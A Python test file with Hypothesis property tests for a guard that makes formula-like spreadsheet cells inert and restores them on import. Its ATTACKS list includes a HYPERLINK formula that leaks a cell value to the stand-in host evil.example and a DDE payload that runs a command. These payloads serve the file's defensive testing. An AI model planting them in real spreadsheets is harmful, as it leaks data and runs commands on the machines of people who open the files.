"""Formula-like text made inert for spreadsheets and restored on import (contact_recon/model/cells.py): laws."""

from __future__ import annotations

import polars as pl
from hypothesis import given
from hypothesis import strategies as st

from contact_recon.model.cells import FORMULA_START, guard, guarded, unguard, unguard_row, unguarded

ATTACKS = ['=HYPERLINK("http://evil.example/?leak="&B3,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
           "\t=1", "\r=1", "'=1", "''+1"]
texts = st.one_of(st.text(), st.sampled_from(ATTACKS),
                  st.tuples(st.sampled_from(["", "'", "''", *FORMULA_START]), st.text()).map("".join))


@given(texts)
def test_a_guarded_cell_never_starts_a_formula_and_restores_exactly(text: str) -> None:
    cell = guard(text)
    assert not cell.startswith(FORMULA_START)
    assert unguard(cell) == text


@given(st.lists(st.one_of(texts, st.none()), max_size=8))
def test_the_frame_forms_agree_with_the_text_forms(values: list[str | None]) -> None:
    frame = pl.DataFrame({"name": values, "n": list(range(len(values)))}, schema={"name": pl.String, "n": pl.Int64})
    out = guarded(frame)
    assert out["name"].to_list() == [None if v is None else guard(v) for v in values]
    assert unguarded(out)["name"].to_list() == values and out["n"].to_list() == frame["n"].to_list()


def test_the_known_attacks_are_quoted_and_plain_text_is_left_alone() -> None:
    assert [guard(a)[0] for a in ATTACKS] == ["'"] * len(ATTACKS)
    for plain in ("Ann-Marie", "O'Brien", "+447700900003 is not", "", "'quoted'"):
        expected = "'" + plain if plain.startswith(FORMULA_START) else plain
        assert guard(plain) == expected and unguard(guard(plain)) == plain
    assert unguard_row({"a": "'=1", "b": "x", "c": None}) == {"a": "=1", "b": "x", "c": None}
